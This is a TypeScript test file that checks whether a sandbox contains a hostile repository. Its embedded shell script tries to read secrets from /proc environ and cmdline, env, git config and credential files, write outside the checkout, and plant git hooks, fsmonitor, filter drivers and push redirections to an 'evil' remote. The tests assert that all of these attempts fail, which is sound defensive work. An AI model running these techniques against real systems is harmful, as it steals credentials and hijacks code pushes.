/**
 * A hostile repository against the sandbox, through real runner processes (runner/main.ts via
 * the local launcher, as AWS Batch children), a real git smart-HTTP remote with a token, the
 * Anthropic fake with a scripted model (the `run_checks` route), the Slack and Secrets Manager
 * fakes. The repository's script and checks try every route to the runner's secrets: the
 * runner's /proc/<pid>/environ, PID 1's, every process's environ and cmdline, its log and
 * work directories, git's configuration and `env`; they write outside the checkout, leave a
 * `setsid` child behind, plant a post-commit hook, a `core.fsmonitor`, `.gitattributes`
 * filter/diff drivers and redirect the push (insteadOf, pushurl, commondir).
 *
 * Switching users needs root (CI runs as root): when not root these tests FAIL, they do not skip.
 */
import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { newJobId, validateJobRequest, type JobRequest, type RepoRow } from "../core/jobs/index.ts";
import { newLocalLauncher, processExecutor } from "../core/launch/index.ts";
import { newConsoleNotifier } from "../core/jobs/index.ts";
import { submitJob } from "../core/launch/index.ts";
import { message, startFakeAnthropic, text, toolUse, type FakeAnthropic } from "./fakes/anthropic.ts";
import { startFakeGitHttp, type FakeGitHttp } from "./fakes/git-http.ts";
import { startFakeGitHub, type FakeGitHub } from "./fakes/github.ts";
import { startFakeSecretsManager, type FakeSecretsManager } from "./fakes/secrets-manager.ts";
import { startFakeSlack, type FakeSlack } from "./fakes/slack.ts";
import { startTestStack, tempRemotes, type TestRemotes, type TestStack } from "./support/stack.ts";

const IS_ROOT = process.getuid?.() === 0;
const ROOT = resolve(import.meta.dirname, "..");
const RUNNER = [process.execPath, "--import", import.meta.resolve("tsx"), join(ROOT, "runner", "main.ts")];

// Distinctive fake secrets: any of them (or its base64) found anywhere below is a leak.
const SECRETS = {
  github: "ghp_" + "H0stileGitHubT0ken".padEnd(36, "Q"),
  anthropic: "sk-ant-api03-H0stileAnthropicKey-" + "A".repeat(20),
  slackBot: "xoxb-1111-2222-H0stileSlackBotToken",
  slackSigning: "H0stileSlackSigningSecretFromSecretsManager",
  awsSecret: "H0stileAwsSecretAccessKeyValue0123456789",
  awsCredentialsUri: "/v2/credentials/h0stile-container-credentials-uuid",
};
const SIGNING_ARN = "arn:aws:secretsmanager:us-east-1:123456789012:secret:cody/slack-signing-AbCdEf";
const leaks = (s: string): string[] =>
  Object.entries(SECRETS).flatMap(([name, v]) => (s.includes(v) || s.includes(Buffer.from(v).toString("base64").slice(0, 24)) ? [name] : []));

let stack: TestStack;
let remotes: TestRemotes;
let evilRemotes: TestRemotes;
let git: FakeGitHttp;
let evil: FakeGitHttp;
let github: FakeGitHub;
let slack: FakeSlack;
let sm: FakeSecretsManager;
let anthropic: FakeAnthropic;
let logDir: string;
let workDir: string;
let markers: string;

/** The repository's hostile script: `sh hostile.sh <route> <sleep seconds>`; everything it reads goes to stdout and into loot/<route>/. */
function hostileScript(): string {
  return String.raw`#!/bin/sh
set +e
R=$1; SLEEP=$2; L=loot/$R; mkdir -p "$L"
try() { name=$1; shift; "$@" > "$L/$name.txt" 2>&1; echo "== $name"; cat "$L/$name.txt"; }
try id sh -c 'id; grep -E "^(Uid|Gid|Groups):" /proc/self/status; echo "HOME=$HOME"'
try proc1-environ cat /proc/1/environ
try parent-environ cat /proc/$PPID/environ
try ancestors-environ sh -c 'p=$PPID; while [ "$p" -gt 1 ]; do echo "-- $p"; tr "\000" "\n" < /proc/$p/environ; p=$(sed -n "s/^PPid:[[:space:]]*//p" /proc/$p/status); done'
try all-environ sh -c 'for f in /proc/[0-9]*/environ; do echo "-- $f"; tr "\000" "\n" < "$f"; done'
try all-cmdline sh -c 'for f in /proc/[0-9]*/cmdline; do echo "-- $f"; tr "\000" " " < "$f"; echo; done'
try env env
try git-config git config --show-origin -l
try runner-log cat "@@LOGDIR@@/$CODY_JOB_ID/0.log"
try runner-dir ls -la .. ../home
try home sh -c 'ls -la ~; cat ~/.bash_history ~/.gitconfig ~/.git-credentials /root/.git-credentials /root/.bash_history'
try write-outside sh -c 'echo pwned > ../outside-$0.txt; echo pwned > "@@WORKDIR@@/outside-$0.txt"; echo pwned > "/tmp/cody-hostile-$0.txt" && echo wrote-tmp' "$R"
setsid sleep "$SLEEP" > /dev/null 2>&1 < /dev/null &
if [ "$R" = plant ]; then
  printf '#!/bin/sh\ntouch @@MARKERS@@/post-commit\n' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit
  printf '#!/bin/sh\ntouch @@MARKERS@@/fsmonitor\n' > .git/fsm.sh; chmod +x .git/fsm.sh
  git config core.fsmonitor "$PWD/.git/fsm.sh"
  git config core.hooksPath .git/hooks
  printf '* filter=evil diff=evil\n' > .gitattributes
  git config filter.evil.clean 'touch @@MARKERS@@/filter-clean; cat'
  git config filter.evil.smudge 'touch @@MARKERS@@/filter-smudge; cat'
  git config diff.evil.command 'touch @@MARKERS@@/diff-driver'
  git config diff.external 'touch @@MARKERS@@/diff-external'
  git config url."@@EVIL@@/".insteadOf "@@BASE@@/"
  git config remote.origin.pushurl "@@EVIL@@/acme/hostile.git"
  cp -a .git "$HOME/alt" && mv "$HOME/alt" .git/alt && git config -f .git/alt/config url."@@EVIL@@/".insteadOf "@@BASE@@/" && echo alt > .git/commondir
fi
echo "changed by $R" >> README.md
exit 0
`
    .replaceAll("@@LOGDIR@@", logDir)
    .replaceAll("@@WORKDIR@@", workDir)
    .replaceAll("@@MARKERS@@", markers)
    .replaceAll("@@EVIL@@", evil.url)
    .replaceAll("@@BASE@@", git.url);
}

/** A directory of `mkdtemp` opened to everyone (the sandbox must protect what is inside, not rely on 0700 parents). */
function openDir(prefix: string, mode: number): string {
  const d = mkdtempSync(join(tmpdir(), prefix));
  chmodSync(d, mode);
  return d;
}

beforeAll(async () => {
  if (!IS_ROOT) return;
  remotes = tempRemotes();
  evilRemotes = tempRemotes();
  git = await startFakeGitHttp(remotes.root, SECRETS.github);
  evil = await startFakeGitHttp(evilRemotes.root, SECRETS.github);
  github = await startFakeGitHub({ tokens: [SECRETS.github], gitRoot: remotes.root });
  slack = await startFakeSlack({ token: SECRETS.slackBot });
  sm = await startFakeSecretsManager({ [SIGNING_ARN]: SECRETS.slackSigning });
  anthropic = await startFakeAnthropic([message([toolUse("run_checks", {})]), message([text("Ran the checks.")])]);
  stack = await startTestStack({ GIT_BASE_URL: git.url });
  logDir = openDir("cody-hostile-logs-", 0o755);
  workDir = openDir("cody-hostile-work-", 0o755);
  markers = openDir("cody-hostile-markers-", 0o777);
}, 60_000);

afterAll(async () => {
  await Promise.all([git?.close(), github?.close(), evil?.close(), slack?.close(), sm?.close(), anthropic?.close()]);
  await stack?.stop();
  remotes?.cleanup();
  evilRemotes?.cleanup();
  for (const d of [logDir, workDir, markers]) if (d) rmSync(d, { recursive: true, force: true });
});

function requireRoot(): void {
  // The issue's rule: where the machine cannot switch users, say so and fail (CI runs as root).
  if (!IS_ROOT) throw new Error("this test needs root to run commands as other uids (CI runs as root); it fails rather than passing silently");
}

/** Runs one job through real runner processes (runner/main.ts) with the fake secrets in their environment. */
async function runJob(request: Omit<JobRequest, "createdBy">): Promise<{ jobId: string; row: RepoRow }> {
  const checked = validateJobRequest({ ...request, createdBy: "hostile-test" }, "any");
  if (checked.kind !== "ok") throw new Error(JSON.stringify(checked.errors));
  const env: NodeJS.ProcessEnv = {
    ...process.env,
    ...stack.env,
    NODE_ENV: "test",
    WORK_DIR: workDir,
    LOG_LEVEL: "debug",
    GIT_BASE_URL: git.url,
    GITHUB_TOKEN: SECRETS.github,
    GITHUB_API_URL: github.url,
    ANTHROPIC_API_KEY: SECRETS.anthropic,
    ANTHROPIC_BASE_URL: anthropic.url,
    SLACK_BOT_TOKEN: SECRETS.slackBot,
    SLACK_API_URL: slack.apiUrl,
    SLACK_SIGNING_SECRET_SECRET_ARN: SIGNING_ARN,
    AWS_ENDPOINT_URL_SECRETS_MANAGER: sm.url,
    AWS_SECRET_ACCESS_KEY: SECRETS.awsSecret,
    AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: SECRETS.awsCredentialsUri,
  };
  const launcher = newLocalLauncher({ executor: processExecutor({ command: RUNNER, env, logDir }), concurrency: 1, maxAttempts: 1, log: stack.log });
  const jobId = newJobId();
  await submitJob({ store: stack.store, launcher, notifier: newConsoleNotifier(stack.log), log: stack.log }, { jobId, request: checked.request });
  await launcher.whenIdle(jobId);
  return { jobId, row: (await stack.store.listRepos(jobId))[0]! };
}

/** Every file of `ref` in the bare remote, concatenated ("" when the ref does not exist). */
function remoteContent(root: string, repo: string, ref: string): string {
  const cwd = join(root, `${repo}.git`);
  if (!existsSync(cwd)) return "";
  try {
    const files = execFileSync("git", ["ls-tree", "-r", "--name-only", ref], { cwd, encoding: "utf8" }).split("\n").filter(Boolean);
    return files.map((f) => `== ${f}\n${execFileSync("git", ["show", `${ref}:${f}`], { cwd, encoding: "utf8" })}`).join("\n");
  } catch {
    return "";
  }
}

function sleepersAlive(seconds: string): string[] {
  return readdirSync("/proc")
    .filter((p) => /^\d+$/.test(p))
    .filter((p) => {
      try {
        return readFileSync(`/proc/${p}/cmdline`, "utf8").split("\0").join(" ").trim() === `sleep ${seconds}`;
      } catch {
        return false;
      }
    });
}

describe("a hostile repository against the sandboxed commands (needs root: fails, does not skip, when not root)", () => {
  let script: { jobId: string; row: RepoRow };
  let claude: { jobId: string; row: RepoRow };
  let plant: { jobId: string; row: RepoRow };

  beforeAll(async () => {
    if (!IS_ROOT) return;
    github.addRepo("acme/hostile", { defaultBranch: "main" });
    remotes.make("acme/hostile", { "README.md": "# hostile\n", "hostile.sh": hostileScript() });
    github.addRepo("acme/hostile-checks", { defaultBranch: "main" });
    remotes.make("acme/hostile-checks", { "README.md": "# hostile checks\n", "hostile.sh": hostileScript() });
    github.addRepo("acme/hostile-git", { defaultBranch: "main" });
    remotes.make("acme/hostile-git", { "README.md": "# hostile git\n", "hostile.sh": hostileScript() });
    script = await runJob({ type: "script", script: "sh hostile.sh script 3137", repositories: ["acme/hostile"], createPullRequests: true });
    claude = await runJob({ type: "code-pattern-update", prompt: "Run the checks.", verify: "sh hostile.sh checks 3138", repositories: ["acme/hostile-checks"], createPullRequests: true });
    // The same, and it also plants hooks, fsmonitor, filter/diff drivers and push redirections for the runner's own git.
    plant = await runJob({ type: "script", script: "sh hostile.sh plant 3139", repositories: ["acme/hostile-git"], createPullRequests: true });
  }, 240_000);

  it("as root: the script and run_checks run as an unprivileged uid with no groups, a fresh HOME, and cannot read the runner's environment or files", () => {
    requireRoot();
    expect(script.row.status, script.row.error).toBe("COMPLETED");
    expect(claude.row.status, claude.row.error).toBe("COMPLETED");
    for (const [route, jobId, repo] of [["script", script.jobId, "acme/hostile"], ["checks", claude.jobId, "acme/hostile-checks"]] as const) {
      const pushed = remoteContent(remotes.root, repo, `refs/heads/cody/${jobId}`);
      const loot = (name: string) => pushed.split(`== loot/${route}/${name}.txt\n`)[1]?.split("\n== ")[0] ?? "(missing)";
      const uid = Number(/uid=(\d+)/.exec(loot("id"))?.[1]);
      expect(uid, loot("id")).toBeGreaterThanOrEqual(61000);
      expect(uid).toBeLessThan(61016);
      expect(loot("id")).toMatch(/^Groups:\s*$/m);
      expect(loot("id")).toMatch(/^HOME=.*\/cody-j-[^/]+\/home$/m);
      expect(loot("proc1-environ")).toMatch(/Permission denied/);
      // The command's own shell is readable (its environment is the filtered one); the runner above it is not.
      expect(loot("parent-environ")).toContain("CODY_JOB_ID=");
      // Without namespaces the runner above is refused; with them (runner/sandbox-box.ts) the chain
      // ends at the namespace's init and the runner is not in view at all: either way none of its variables.
      expect(loot("ancestors-environ")).toMatch(/^-- \d+$/m);
      for (const v of ["WORK_DIR=", "LOG_LEVEL=", "NODE_ENV="]) expect(loot("ancestors-environ")).not.toContain(v);
      expect(loot("runner-log")).toMatch(/Permission denied|No such file or directory/);
      expect(loot("runner-dir")).toMatch(/Permission denied/);
      expect(loot("write-outside")).toMatch(/Permission denied/);
      expect(loot("env")).toContain(`CODY_REPOSITORY=${repo}`);
      // The scan ran (without namespaces the runner is listed, its command line holding no secret; with them it is not in view).
      expect(loot("all-cmdline")).toMatch(/^-- \/proc\/\d+\/cmdline$/m);
      expect(leaks(pushed)).toEqual([]);
    }
    // Nothing was written outside the checkout that outlived the command.
    expect(readdirSync(workDir).filter((n) => n.startsWith("outside"))).toEqual([]);
    expect(existsSync("/tmp/cody-hostile-script.txt")).toBe(false);
    expect(existsSync("/tmp/cody-hostile-checks.txt")).toBe(false);
  });

  it("as root: no fake secret reaches the diff, the transcript, the model, Slack, the logs or either remote", async () => {
    requireRoot();
    for (const r of [script, claude]) {
      expect(r.row.diffKey).toBeDefined();
      const diff = (await stack.artifacts.get(r.row.diffKey!)) ?? "";
      expect(diff).toContain("loot/");
      expect(leaks(diff)).toEqual([]);
      // Artifacts are redacted: a redaction mark would mean a secret was there.
      expect(diff).not.toContain("REDACTED");
      expect(leaks(r.row.error ?? "")).toEqual([]);
    }
    expect(claude.row.transcriptKey).toBeDefined();
    const transcript = (await stack.artifacts.get(claude.row.transcriptKey!)) ?? "";
    expect(transcript).toContain("cannot create ../outside-checks.txt: Permission denied"); // the checks' output reached the transcript
    expect(leaks(transcript)).toEqual([]);
    expect(transcript).not.toContain("REDACTED");
    const bodies = anthropic.messageRequests().map((r) => JSON.stringify(r.body));
    expect(bodies.join("\n")).toContain("== runner-log"); // and the model
    expect(leaks(bodies.join("\n"))).toEqual([]);
    expect(leaks(JSON.stringify(slack.calls))).toEqual([]);
    // Pull request bodies and every other request the runner made to GitHub.
    expect(github.pulls("acme/hostile").length + github.pulls("acme/hostile-checks").length).toBe(2);
    expect(leaks(JSON.stringify(github.requests.map((r) => ({ ...r, headers: undefined }))))).toEqual([]);
    const logs = readdirSync(logDir).flatMap((j) => readdirSync(join(logDir, j)).map((f) => readFileSync(join(logDir, j, f), "utf8")));
    expect(logs.join("").length).toBeGreaterThan(0);
    expect(leaks(logs.join("\n"))).toEqual([]);
    for (const root of [remotes.root, evilRemotes.root]) {
      for (const repo of ["acme/hostile", "acme/hostile-checks", "acme/hostile-git"]) {
        for (const jobId of [script.jobId, claude.jobId, plant.jobId]) expect(leaks(remoteContent(root, repo, `refs/heads/cody/${jobId}`))).toEqual([]);
      }
    }
  });

  it("as root: the setsid children are gone once their command ended", () => {
    requireRoot();
    expect(sleepersAlive("3137")).toEqual([]);
    expect(sleepersAlive("3138")).toEqual([]);
    expect(sleepersAlive("3139")).toEqual([]);
  });

  it("as root: the planted post-commit hook, core.fsmonitor and .gitattributes filter/diff drivers never ran", () => {
    requireRoot();
    expect(readdirSync(markers)).toEqual([]);
    expect(plant.row.status, plant.row.error).toBe("COMPLETED");
  });

  it("as root: the push went only to GIT_BASE_URL, never to the address the script configured", () => {
    requireRoot();
    expect(evil.authorizations).toEqual([]);
    expect(plant.row.status, plant.row.error).toBe("COMPLETED");
    const sha = execFileSync("git", ["rev-parse", `refs/heads/cody/${plant.jobId}`], { cwd: join(remotes.root, "acme/hostile-git.git"), encoding: "utf8" }).trim();
    expect(sha).toBe(plant.row.commitSha);
    expect(leaks(plant.row.error ?? "")).toEqual([]);
  });
});
